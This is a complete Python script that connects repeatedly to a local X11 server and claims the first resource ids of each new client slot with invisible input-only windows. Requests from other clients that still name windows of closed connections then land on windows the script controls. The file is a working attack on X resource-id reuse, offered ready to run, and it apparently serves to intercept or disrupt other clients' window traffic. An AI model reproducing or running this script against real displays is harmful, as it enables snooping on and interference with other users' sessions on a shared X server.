#!/usr/bin/env python3
"""Takes each X client slot that comes free and fills the first ids of the new connection
with input-only windows, so that a request still naming a window of a closed connection
names one of them. Runs until killed.

    reused-x-ids.py DISPLAY_NUMBER
"""
import socket
import struct
import sys
import time

KEEP = 60  # connections held at once; the oldest goes as a new one comes
IDS = 48  # ids filled in each


def connect(display):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("/tmp/.X11-unix/X%d" % display)
    s.sendall(struct.pack("<BxHHHHxx", ord("l"), 11, 0, 0, 0))
    head = s.recv(8, socket.MSG_WAITALL)
    body = s.recv(struct.unpack_from("<H", head, 6)[0] * 4, socket.MSG_WAITALL)
    if head[0] != 1:
        raise OSError("refused by the X server")
    base, mask = struct.unpack_from("<II", body, 4)
    vendor, formats = struct.unpack_from("<H", body, 16)[0], body[21]
    root = struct.unpack_from("<I", body, 32 + (vendor + 3) // 4 * 4 + 8 * formats)[0]
    step = mask & -mask
    # CreateWindow: class InputOnly, depth and visual from the parent, no attributes.
    s.sendall(b"".join(struct.pack("<BBHIIhhHHHHII", 1, 0, 8, base + i * step, root,
                                   0, 0, 1, 1, 0, 2, 0, 0) for i in range(IDS)))
    return s


def main():
    display = int(sys.argv[1])
    held = []
    while True:
        try:
            held.append(connect(display))
        except OSError:
            time.sleep(0.01)
            continue
        if len(held) > KEEP:
            held.pop(0).close()
        time.sleep(0.002)


if __name__ == "__main__":
    main()
